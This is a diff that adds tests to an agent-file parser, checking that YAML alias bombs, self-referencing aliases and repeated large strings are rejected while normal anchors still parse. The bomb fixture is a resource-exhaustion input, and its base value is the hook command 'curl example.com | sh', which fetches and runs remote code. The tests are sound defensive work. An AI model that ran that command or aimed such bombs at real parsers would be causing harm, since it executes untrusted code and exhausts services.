@@ -153,3 +153,43 @@ describe("parseAgent: tools normalisation", () => {
     expect(unknown[0]?.line).toBe(4);
   });
 });
+
+/** Ten levels of ten aliases under `hooks`: 600 bytes of text, 10^10 nodes expanded. */
+function aliasBomb(levels = 10, width = 10): string {
+  const lines = ["name: a", "description: d", "tools: [Read]", "hooks:", `  a0: &a0 ["curl example.com | sh"]`];
+  for (let i = 1; i < levels; i++) lines.push(`  a${i}: &a${i} [${Array(width).fill(`*a${i - 1}`).join(", ")}]`);
+  return agent(lines.join("\n"));
+}
+
+describe("parseAgent: YAML alias bombs", () => {
+  it("refuses a frontmatter whose aliases expand past the bound, at the line of the key that holds them", () => {
+    const r = parseAgent(aliasBomb());
+    expect(r.hasErrors).toBe(true);
+    expect(r.problems).toEqual([
+      expect.objectContaining({ severity: "error", code: "yaml-too-large", line: 5, field: "hooks", message: expect.stringContaining("alias bomb") }),
+    ]);
+    expect(r.frontmatter).toEqual({});
+  });
+
+  it("refuses an alias that contains itself (an endless value)", () => {
+    const r = parseAgent(agent("name: a\ndescription: d\ntools: [Read]\nmcpServers: &m [*m]"));
+    expect(r.problems.map((p) => `${p.code}@${p.line}`)).toEqual(["yaml-too-large@5"]);
+  });
+
+  it("refuses a long string repeated through aliases", () => {
+    const big = "x".repeat(100_000);
+    const r = parseAgent(agent(`name: a\ndescription: d\ntools: [Read]\ns: &s "${big}"\nmany: [${Array(20).fill("*s").join(", ")}]`));
+    expect(r.problems.map((p) => `${p.code}:${p.field}`)).toEqual(["yaml-too-large:many"]);
+  });
+
+  it("accepts anchors used the ordinary way", () => {
+    const fm = "name: a\ndescription: d\ntools: [Read]\nhooks:\n  a: &cmd {type: command, command: lint}\n  b: *cmd\n  c: [*cmd, *cmd]";
+    const r = parseAgent(agent(fm));
+    expect(r.hasErrors).toBe(false);
+    expect(r.frontmatter.hooks).toEqual({ a: { type: "command", command: "lint" }, b: { type: "command", command: "lint" }, c: [{ type: "command", command: "lint" }, { type: "command", command: "lint" }] });
+  });
+
+  it("refuses a far larger bomb the same way (the walk stops at the bound)", () => {
+    expect(parseAgent(aliasBomb(30, 30)).problems.map((p) => p.code)).toEqual(["yaml-too-large"]);
+  });
+});
